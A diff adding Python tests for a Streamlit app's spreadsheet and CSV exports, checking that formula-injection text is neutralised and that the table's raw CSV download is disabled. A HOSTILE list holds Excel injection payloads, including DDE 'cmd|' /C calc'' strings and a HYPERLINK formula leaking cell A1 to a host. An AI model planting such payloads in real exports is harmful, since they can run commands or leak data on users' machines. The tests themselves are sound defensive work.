@@ -4,15 +4,30 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import tomllib
+from pathlib import Path
 
 import openpyxl
 import pandas as pd
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from icalendar import Calendar
 
 from lib.contract import EVALUATION_DONE, EVALUATION_OVERDUE, EVALUATION_PLANNED
 from lib.exports import FORMULA_PREFIXES, evaluations_to_ics, frame_to_xlsx, xml_safe
+from lib.safe_text import csv_cell, looks_like_formula
+
+ROOT = Path(__file__).resolve().parent.parent
+#: Text a hostile workbook might hold; each would run in Excel if written as it is.
+HOSTILE = [
+    '=HYPERLINK("http://example.com/?q="&A1,"Ola")',
+    '\x01=HYPERLINK("http://example.com","Ola")',
+    "\x1b\x07+cmd|' /C calc'!A0",
+    "\u200b@SUM(1+1)*cmd|' /C calc'!A0",
+    " -2+3+cmd|' /C calc'!A0",
+    "\x7f\x9b=1+1",
+]
 
 
 def read_back(content: bytes) -> list[tuple]:
@@ -118,3 +133,38 @@ def test_due_dates_become_all_day_events_with_stable_ids():
 def test_an_empty_plan_is_an_empty_calendar():
     calendar = Calendar.from_ical(evaluations_to_ics(plan().iloc[0:0]))
     assert calendar.walk("VEVENT") == []
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_control_characters_are_dropped_before_the_formula_check(text: str) -> None:
+    """`\\x01=HYPERLINK(…)` loses its \\x01 in the workbook; it must not become a live
+    formula there (the Versjoner and error-list downloads)."""
+    assert looks_like_formula(text)
+    cells = openpyxl.load_workbook(io.BytesIO(frame_to_xlsx(pd.DataFrame({"A": [text]})))).active
+    cell = cells["A2"]
+    assert cell.data_type == "s" and cell.quotePrefix, repr(cell.value)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_for_excel_quotes_formula_like_text(text: str) -> None:
+    guarded = csv_cell(text)
+    assert isinstance(guarded, str) and guarded.startswith("'")
+    assert not any((ord(c) < 32 and c not in "\t\n\r") or 0x7F <= ord(c) <= 0x9F for c in guarded)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("-3", "-3"), ("+2,5", "+2,5"), ("Vanlig tekst", "Vanlig tekst"), (4, 4), (None, None)],
+)
+def test_csv_for_excel_leaves_numbers_and_plain_text(value: object, expected: object) -> None:
+    assert csv_cell(value) == expected
+
+
+def test_the_tables_own_csv_download_is_turned_off() -> None:
+    """Streamlit's table toolbar «Download as CSV» writes formula-like text raw; the option
+    that hides it (and clipboard copy) is on, and is an option this Streamlit knows."""
+    from streamlit import config
+
+    config_file = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert config_file["client"]["disableDataExport"] is True
+    assert "client.disableDataExport" in config._config_options_template
